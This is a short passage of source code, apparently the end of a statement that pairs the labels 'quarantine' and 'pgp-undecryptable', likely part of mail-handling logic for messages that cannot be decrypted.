        ("quarantine", "pgp-undecryptable")
    );
}
